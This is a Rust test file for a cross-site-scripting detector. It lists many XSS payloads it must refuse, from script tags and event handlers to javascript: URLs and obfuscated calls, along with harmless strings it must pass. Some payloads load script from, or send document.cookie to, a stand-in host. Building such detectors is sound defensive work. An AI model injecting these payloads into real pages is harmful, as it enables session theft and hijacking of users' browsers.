//! The script detector on attacks, on what looks like one and is none, and on any bytes.

use super::Script;
use crate::{
    detectors::code::trial::{hit, never_panics, passes, refuses},
    leaf::{Field, Where},
};

#[test]
fn finds_tags_that_run() {
    refuses(
        &Script,
        &[
            "<script>go()</script>",
            "<SCRIPT SRC=//evil.example/x.js>",
            "hello<script\n>x",
            "<script/x>1</script>",
            "<svg><script href=//evil.example/x.js />",
            "<xhtml:script>go()</xhtml:script>",
            "< script >go()</ script >",
            "<scr<script>ipt>go()</script>",
            "<iframe srcdoc='&lt;b&gt;'>",
            "<iframe src=//evil.example>",
            "<object data=//evil.example/x.swf>",
            "<object type=text/html><param name=url value=https://evil.example>",
            "<table background='//evil.example/x'>",
            "<embed src=//evil.example/x.swf>",
            "<base href=//evil.example/>",
            "<meta http-equiv=refresh content='0;url=//evil.example'>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<style>@import '//evil.example/x.css'</style>",
            "<div style=\"width: expr/**/ession(go())\">",
            "<div style='-moz-binding:url(//evil.example/x#y)'>",
            "<svg><animate attributeName=href values=x>",
            "<button form=f formaction=javascript:go()>",
            "<x ev:event=click ev:handler=#y>",
        ],
    );
}

#[test]
fn finds_event_handlers_wherever_they_stand() {
    refuses(
        &Script,
        &[
            "<img src=x onerror=go()>",
            "<img src=x onerror = 'x'>",
            "<img/src=x/onerror=go()>",
            "<svg\nonload\t=\ngo()>",
            "<b onpointerrawupdate=go()>x",
            "<video><source onerror=go()>",
            "<a href=\"x>\" onclick=alert(1)>",
            "<x onanything=alert(1)>",
            "\" onmouseover=\"go()",
            "' autofocus onfocus='go()' x='",
            "x\"onclick=\"location='//evil.example'",
            "onload=alert(1)",
            "1 onfocus=document.title autofocus",
            "<img src=x o><svg/onload=alert`1`",
            "<p ng-click=constructor.constructor('go()')()>",
            "<div @click=\"alert(1)\">",
            "'><x v-on:click=\"fetch(x)\">",
            "window.onerror=eval;throw'=go\\x281\\x29'",
        ],
    );
}

#[test]
fn finds_urls_that_run() {
    refuses(
        &Script,
        &[
            "javascript:alert(1)",
            "JaVaScRiPt:go()",
            "java\nscript\t:go()",
            "\u{1}javascript:go()",
            "javascript://evil.example/%0ago()",
            "vbscript:msgbox(1)",
            "<a href=javascript:go()>",
            "<a href=' javascript:x=1'>",
            "data:text/html,<b>x",
            "<a href=data:text/html;base64,eA==>",
            "<embed src=data:image/svg+xml;base64,eA==>",
            "[x](javascript:alert(1))",
            "\"><a href=\"feed:javascript:go()\">",
        ],
    );
}

#[test]
fn finds_scripts_without_any_markup() {
    refuses(
        &Script,
        &[
            "';alert(1)//",
            "\"-confirm`1`-\"",
            "'+prompt(document.domain)+'",
            "${alert(1)}",
            "\\';alert(1);//",
            "eval(atob('eA=='))",
            "eval('x')",
            "(alert)(1)",
            "alert.call(null, 1)",
            "[1].find(alert)",
            "[1,2].reduce(confirm)",
            "self['ale'+'rt'](1)",
            "top[/al/.source+/ert/.source](1)",
            "window[atob('YWxlcnQ=')+''](1)",
            "''['constructor']['constructor']('x')()",
            "{{constructor.constructor('alert(1)')()}}",
            "Function('x')()",
            "fetch(`//evil.example/`+document.cookie)",
            "new Image().src='//evil.example/?'+document.cookie",
            "(a=alert)(1)",
            "[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]",
            "al<x>ert<x>(1)",
            "on<b>clic</b>k=ale<b>rt</b>(1)",
            "+ADw-b+AD4-",
            "eval(name)",
            "location=`//evil.example`",
            "parent['loca'+'tion']=x",
            "document.write('x')",
            "top['al' 'ert'](1)",
            "open[location.hash]",
            "import('//evil.example/x.js')",
        ],
    );
}

#[test]
fn harmless_markup_passes_everywhere() {
    let values = [
        "<b>bold</b> and <i>italic</i>",
        "<a href=\"https://example.com/a?b=c&d=e\">link</a>",
        "<img src=\"https://example.com/a.png\" alt=\"a cat\" width=10>",
        "<p class='x' style='color: red; background: url(https://example.com/a.png)'>text</p>",
        "a < b && c > d",
        "if (x<y) { z=1 }",
        "Vec<String>, Map<K, List<V>>, List<onClick>",
        "Ann <ann@example.com>",
        "<https://example.com/a>",
        "<@U123456> said hello",
        "I <3 you = forever",
        "x = y; once = 2; online=1&only=2",
        "for power, \"binary<script\" is incorrect",
        "JavaScript: the good parts",
        "See the javascript: section of the manual",
        "data:image/png;base64,iVBORw0KGgo=",
        "Please confirm (or deny) by Friday",
        "We prompt (once) and alert (twice)",
        "call me on=off",
        "evaluation(s) of the proposal, location=Berlin",
        "location='Berlin' and (location=\"Rome\")",
        "fetch(url) then open(file)",
        "toast.alert('Saved')",
        "q=a&onboarding=true&onsale=1",
        "The function (described below) is constant",
        "<GITHUB_TOKEN> and <your name here>",
        "<details><summary>More</summary>text</details>",
        "<!-- a comment --> and <br/>",
        "description: |\n  onError: retry\n  onSuccess = next",
        "++++++++++ ---------- (((( )))) [ ] [x] [ ] ----------",
        "- [ ] one\n- [ ] two\n- [x] three (+1) !!",
        "https://example.com/?redirect=https%3A%2F%2Fexample.org&location=x",
    ];
    for field in
        [Field::Unknown, Field::Token, Field::Prose, Field::Markup, Field::Code, Field::Query, Field::Url]
    {
        passes(&Script, field, &values);
    }
}

#[test]
fn talk_about_scripts_passes_in_prose() {
    let values = [
        "Could you explain why <script>alert(1)</script> in my template is escaped by React but the same text shows up \
         unescaped when I use dangerouslySetInnerHTML in the component?",
        "The handler `<button onclick=\"save()\">` should be moved into a separate file so that our content security \
         policy does not block it any more, as described in the ticket about the new headers.",
        "Fix the code below.\n```html\n<img src=x onerror=alert(1)>\n```\n",
        "When I call alert(1) in the console it works, but when I call document.cookie from the worker it throws an \
         error, is that expected behaviour in this browser?",
    ];
    passes(&Script, Field::Prose, &values);
    passes(&Script, Field::Markup, &values);
}

#[test]
fn source_code_passes_in_its_field() {
    passes(
        &Script,
        Field::Code,
        &[
            "<a onClick={(e) => e.preventDefault()}>Hover me</a>",
            "<button onclick=\"save()\">Save</button>\n<script src=\"/app.js\"></script>",
            "document.addEventListener('click', () => { alert('clicked'); });",
            "+  if (confirm('Delete?')) {\n+    window.location.href = '/gone';\n+  }",
            "const id = setTimeout(() => fetch('/api'), 10);",
        ],
    );
}

#[test]
fn an_exploit_in_a_text_field_is_refused_all_the_same() {
    for text in
        ["<script>alert(1)</script>", "Nice! <img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>"]
    {
        for field in [Field::Prose, Field::Markup, Field::Query] {
            let hit = hit(&Script, Where::Body, field, text.as_bytes()).unwrap();
            assert_eq!(hit.score, 10, "{text} in {field:?}");
        }
    }
}

#[test]
fn says_where_and_what() {
    let text = b"hello <svg onload=alert(1)> world";
    let hit = hit(&Script, Where::Query, Field::Unknown, text).unwrap();
    assert_eq!(hit.rule, "event_handler");
    assert!(text[hit.span].starts_with(b"<svg onload=alert(1)"));
}

const FRAGMENTS: &[&str] = &[
    "<",
    ">",
    "</",
    "script",
    "<script",
    "<img",
    " src=",
    "onerror",
    "onload=",
    "=",
    "\"",
    "'",
    "`",
    "(",
    ")",
    "[",
    "]",
    "{",
    "}",
    "alert",
    "eval",
    "javascript:",
    "java",
    "\n",
    "script:",
    "data:",
    "text/html",
    "/*",
    "*/",
    "document.cookie",
    ".",
    "call",
    "+",
    "\\u0061",
    "\\x",
    "<x>",
    "al<x>ert",
    "style=",
    "expression(",
    "<style>",
    "+adw-",
    "[]",
    "![]",
    "location=",
    ":",
    "ng-click=",
    "constructor",
    "é",
    "\u{0}",
    "/.source",
    "<!--",
    "?.",
    "=alert,",
    "srcdoc=",
    "attributename=",
];

#[test]
fn no_bytes_make_it_panic() {
    never_panics(&Script, FRAGMENTS);
}
